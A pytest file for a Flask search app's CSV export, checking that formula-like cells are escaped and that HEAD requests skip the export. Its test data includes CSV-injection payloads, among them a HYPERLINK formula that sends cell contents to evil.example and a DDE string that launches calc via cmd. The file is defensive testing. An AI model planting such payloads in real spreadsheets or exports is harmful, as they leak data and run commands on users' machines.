"""The CSV export against hostile documents and requests: no cell a spreadsheet would run as a
formula, and ``HEAD`` answers with the headers without running the export."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient

from indexer.config import Settings
from indexer.models import Region

from .search_fixtures import ENGINES, build_index, crafted_report
from .webui_fixtures import app_fixture, client_fixture, make_app  # noqa: F401

FORMULAS = ('=HYPERLINK("http://evil.example/?"&A1,"点击")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)")


def test_cells_starting_like_formulas_are_neutralised(settings: Settings, tmp_path: Path) -> None:
    report = crafted_report(
        "=cmd.txt",
        FORMULAS[0],
        [("", "preamble", "前言。"), (FORMULAS[1], "proactive", "-2+3 推进政务公开。")],
        region=Region(FORMULAS[2], "\t=1+1", "\r=1+1"),
        year=2018,
    )
    build_index(tmp_path / "index", [("a-0", report)], ENGINES["whoosh"]())
    app = make_app(settings.with_overrides(index_path=tmp_path / "index"))
    try:
        body = app.test_client().get("/search.csv?q=政务公开").get_data()
    finally:
        app.extensions["gongkai"].service.close()
    _, *rows = csv.reader(io.StringIO(body.decode("utf-8-sig")))
    cells = [cell for row in rows for cell in row]
    assert cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    for dangerous in (*FORMULAS, "=cmd.txt", "\t=1+1", "\r=1+1"):
        assert "'" + dangerous in cells


@pytest.mark.parametrize("url", ["/search.csv?q=公开", "/api/search?q=公开&format=csv"])
def test_head_gives_the_csv_headers_without_running_the_export(
    app: Flask, client: FlaskClient, monkeypatch: pytest.MonkeyPatch, url: str
) -> None:
    def refuse(*args: Any) -> None:
        raise AssertionError("HEAD ran the export")

    monkeypatch.setattr(app.extensions["gongkai"].service, "export", refuse)
    response = client.head(url)
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    assert response.get_data() == b""


def test_head_checks_the_parameters_and_the_index(
    client: FlaskClient, settings: Settings, tmp_path: Path
) -> None:
    assert client.head("/search.csv?year=never").status_code == 400
    empty = make_app(settings.with_overrides(index_path=tmp_path / "index"))
    try:
        assert empty.test_client().head("/search.csv").status_code == 503
    finally:
        empty.extensions["gongkai"].service.close()
